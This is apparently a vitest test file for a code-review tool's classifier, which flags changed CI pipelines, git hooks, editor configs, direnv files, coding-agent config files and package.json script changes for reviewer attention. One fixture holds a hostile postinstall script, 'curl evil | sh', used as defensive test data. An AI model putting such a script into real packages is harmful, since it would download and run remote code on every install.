// The attention list: every kind of file that can run code or steer agents is flagged with a reason, package.json only
// when its scripts changed, plain source files never; the policy's globs add to the list; docs/security.md shows it.
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { FileDiff } from '../../../shared/review';
import { ATTENTION_RULES, attentionClassifier, attentionFilesOf, withAttention } from './attention-files';

const classify = attentionClassifier();

function changed(path: string, texts: { oldText?: string; newText?: string; status?: FileDiff['status']; oldPath?: string } = {}): FileDiff {
  return { path, status: texts.status ?? 'modified', additions: 1, deletions: 0, binary: false, tooLarge: false, ...texts };
}

describe('the attention list', () => {
  it.each([
    ['.github/workflows/ci.yml', 'CI pipeline'],
    ['.gitlab-ci.yml', 'CI pipeline'],
    ['.husky/pre-commit', 'git hooks'],
    ['.githooks/pre-push', 'git hooks'],
    ['lefthook.yml', 'git hooks'],
    ['.pre-commit-config.yaml', 'git hooks'],
    ['Makefile', 'Makefile'],
    ['packages/api/Makefile', 'Makefile'],
    ['.vscode/tasks.json', 'editor config'],
    ['.vscode/settings.json', 'editor config'],
    ['.idea/workspace.xml', 'editor config'],
    ['.envrc', 'direnv'],
    ['.claude/settings.json', 'coding agents'],
    ['.mcp.json', 'coding agents'],
    ['AGENTS.md', 'coding agents'],
    ['CLAUDE.md', 'coding agents'],
    ['GEMINI.md', 'coding agents'],
    ['src/CLAUDE.md', 'coding agents'],
    ['.cursor/rules/style.mdc', 'coding agents'],
    ['.codex/config.toml', 'coding agents'],
    ['.desk/config.json', 'worktree setup'],
  ])('flags %s, saying why', (path, words) => {
    expect(classify(changed(path))?.reason).toContain(words);
  });

  it('flags a file renamed away from a hook as much as one renamed into place', () => {
    expect(classify(changed('old-hooks/pre-commit', { status: 'renamed', oldPath: '.husky/pre-commit' }))).toBeDefined();
  });

  it('does not flag plain source files, docs, or look-alikes outside the listed places', () => {
    for (const path of ['src/index.ts', 'README.md', 'docs/AGENTS.txt', 'workflows/ci.yml', 'sub/.github/workflows/ci.yml', 'sub/.gitlab-ci.yml', 'src/.vscode/tasks.json', '.vscode/extensions.json', 'Makefile.txt']) {
      expect(classify(changed(path)), path).toBeUndefined();
    }
  });

  it('flags a package.json whose scripts changed, anywhere in the tree', () => {
    const oldText = JSON.stringify({ name: 'x', scripts: { test: 'vitest' } });
    const newText = JSON.stringify({ name: 'x', scripts: { test: 'vitest', postinstall: 'curl evil | sh' } });
    expect(classify(changed('package.json', { oldText, newText }))?.reason).toContain('scripts changed');
    expect(classify(changed('packages/web/package.json', { oldText, newText }))?.reason).toContain('scripts changed');
  });

  it('does not flag a package.json whose scripts stayed the same, even reordered', () => {
    const oldText = JSON.stringify({ version: '1.0.0', scripts: { build: 'tsc', test: 'vitest' } });
    const newText = JSON.stringify({ version: '1.1.0', dependencies: { zod: '^4' }, scripts: { test: 'vitest', build: 'tsc' } });
    expect(classify(changed('package.json', { oldText, newText }))).toBeUndefined();
  });

  it('flags a new package.json with scripts, and not a new one without', () => {
    expect(classify(changed('package.json', { status: 'added', newText: '{"scripts":{"prepare":"node x.js"}}' }))).toBeDefined();
    expect(classify(changed('package.json', { status: 'added', newText: '{"name":"lib"}' }))).toBeUndefined();
  });

  it('flags a package.json it cannot compare (not JSON, too large) rather than guess', () => {
    expect(classify(changed('package.json', { oldText: '{}', newText: '{ broken' }))?.reason).toContain('not valid JSON');
    expect(classify({ ...changed('package.json'), tooLarge: true })?.reason).toContain('too large');
  });

  it("adds the policy's globs to the list, naming the glob", () => {
    const withPolicy = attentionClassifier(['scripts/**', '**/*.sh']);
    expect(withPolicy(changed('scripts/release.js'))?.reason).toContain('attentionGlobs: scripts/**');
    expect(withPolicy(changed('tools/deploy.sh'))?.reason).toContain('**/*.sh');
    expect(withPolicy(changed('src/index.ts'))).toBeUndefined();
  });

  it('marks the files of a diff and names them, leaving the others without the field', () => {
    const diff = withAttention({ files: [changed('src/a.ts'), changed('.envrc')] }, classify);
    expect(diff.files[0]).not.toHaveProperty('attention');
    expect(diff.files[1]?.attention?.reason).toContain('direnv');
    expect(attentionFilesOf(diff)).toEqual([{ path: '.envrc', reason: diff.files[1]?.attention?.reason }]);
  });

  it('is the list docs/security.md shows', () => {
    const doc = readFileSync(resolve(import.meta.dirname, '../../../../docs/security.md'), 'utf8');
    for (const glob of ATTENTION_RULES.flatMap((rule) => rule.globs)) expect(doc, glob).toContain(`\`${glob}\``);
    expect(doc).toContain('`**/package.json`');
  });
});
